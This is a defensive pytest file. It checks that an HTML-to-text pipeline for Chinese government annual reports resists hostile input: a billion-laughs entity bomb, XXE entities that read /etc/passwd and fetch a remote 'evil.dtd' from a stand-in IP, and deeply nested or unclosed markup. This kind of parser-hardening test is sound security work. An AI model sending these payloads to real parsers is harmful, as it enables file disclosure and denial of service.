"""HTML is read without fetching, without entities from a DTD, and in bounded time and size.

Each payload goes through the renderer alone and through the whole intake (decode, parse,
cut-row check); every one must finish well within 2 s and give output no bigger than a small
multiple of its input.
"""

import socket
import time
from collections.abc import Callable
from typing import Any

import pytest

from pipeline.html_text import MAX_SPAN_CELLS, html_to_lines
from pipeline.intake import read_bytes

BUDGET_S = 2.0
REPORT_TABLE = "<table><tr><td>行政许可</td><td>13</td></tr></table>"
BODY = "<html><body><p>某县2022年政府信息公开工作年度报告</p>" + REPORT_TABLE + "<div>结束</div></body></html>"


def billion_laughs(levels: int = 10) -> str:
    """The classic entity-expansion bomb: &lol9; would expand to 10⁹ "lol"s if entities were honoured."""
    decls = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)]
    doctype = '<?xml version="1.0"?><!DOCTYPE lolz [' + "".join(decls) + "]>"
    return doctype + BODY.replace("<div>结束</div>", f"<p>&lol{levels - 1};</p><td>&lol{levels - 1};</td>")


def external_entities() -> str:
    """XXE: a local file, a URL and a parameter entity that a resolving parser would fetch."""
    doctype = (
        '<?xml version="1.0"?><!DOCTYPE r ['
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        '<!ENTITY web SYSTEM "http://198.51.100.7/leak">'
        '<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]>'
    )
    return doctype + BODY.replace("<div>结束</div>", "<p>&xxe;&web;</p><table><tr><td>&xxe;</td></tr></table>")


N = 100_000
PAYLOADS: dict[str, Callable[[], str]] = {
    "billion-laughs": billion_laughs,
    "external-entities": external_entities,
    "nested-div-100k": lambda: "<div>" * N + "深处" + "</div>" * N,
    "nested-table-100k": lambda: "<table><tr><td>" * N + "深处" + "</td></tr></table>" * N,
    "nested-table-100k-unclosed": lambda: "<table><tr><td>" * N + "深处",
    "unclosed-cells-100k": lambda: "<table><tr>" + "<td>1" * N,
    "unclosed-start-tags-100k": lambda: "<p>x</p><div>" + "<a b=1 " * N,  # quadratic in html.parser
    "unclosed-comment": lambda: BODY + "<!--" + "x" * N,
    "spans": lambda: "<table>" + '<tr><td rowspan="200" colspan="200">1</td>' * 2000 + "</table>",
    "many-lt": lambda: "<p>" + "<" * 10 * N + "</p><div>x</div><br>",
}


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail any attempt to open a socket: reading a report must never reach the network."""

    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("a socket was opened while reading HTML")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


@pytest.mark.parametrize("name", PAYLOADS)
def test_payload_renders_fast_and_bounded(name: str) -> None:
    page = PAYLOADS[name]()

    started = time.perf_counter()
    lines = html_to_lines(page)
    elapsed = time.perf_counter() - started

    assert elapsed < BUDGET_S, f"{name} took {elapsed:.2f} s"
    # Output is at most the input plus the span padding the document may add in all.
    assert sum(len(x) + 1 for x in lines) <= len(page) + MAX_SPAN_CELLS


@pytest.mark.parametrize("name", PAYLOADS)
def test_payload_through_the_whole_intake_returns_a_status(name: str) -> None:
    data = PAYLOADS[name]().encode("utf-8")

    started = time.perf_counter()
    intake = read_bytes(data, f"{name}.html")

    assert time.perf_counter() - started < BUDGET_S
    assert intake.report.status in ("parsed", "partial", "rejected")
    assert intake.report.reason or intake.report.status == "parsed"


@pytest.mark.parametrize("name", ["billion-laughs", "external-entities"])
def test_entities_stay_literal_and_nothing_is_read(name: str) -> None:
    page = PAYLOADS[name]()

    text = "\n".join(html_to_lines(page))

    assert "lollol" not in text  # no entity was expanded ...
    assert "root:" not in text  # ... no file was read ...
    assert "ENTITY" not in text  # ... and the DTD is not report text
    assert "SYSTEM" not in text
    assert "行政许可\t13" in text  # while the report's own table is read as usual
    assert ("&lol9;" in text) if name == "billion-laughs" else ("&xxe;&web;" in text)


def test_tables_left_open_are_still_rendered() -> None:
    page = "<p>标题</p><table><tr><td>行政许可</td><td>13<tr><td>行政处罚</td><td>5"

    assert html_to_lines(page) == ["标题", "行政许可\t13", "行政处罚\t5"]


def test_table_nested_beyond_the_limit_is_cell_text() -> None:
    page = "<table><tr><td>" * 40 + "深处" + "</td></tr></table>" * 40 + "<p>后</p>"

    lines = html_to_lines(page)

    assert lines[-1] == "后"
    assert sum("深处" in x for x in lines) == 1


def test_hostile_spans_stop_counting_when_the_budget_is_spent() -> None:
    page = PAYLOADS["spans"]()

    lines = html_to_lines(page)

    assert len(lines) == 2000  # every row kept ...
    assert sum(x.count("\t") for x in lines) <= MAX_SPAN_CELLS + 2000  # ... but the padding is capped


def test_script_end_tag_search_is_case_insensitive_and_unclosed_script_ends_the_page() -> None:
    assert html_to_lines("<p>a</p><SCRIPT>x='<p>no</p>'</Script ><p>b</p>") == ["a", "b"]
    assert html_to_lines("<p>a</p><script>var s = '<p>no</p>'") == ["a"]
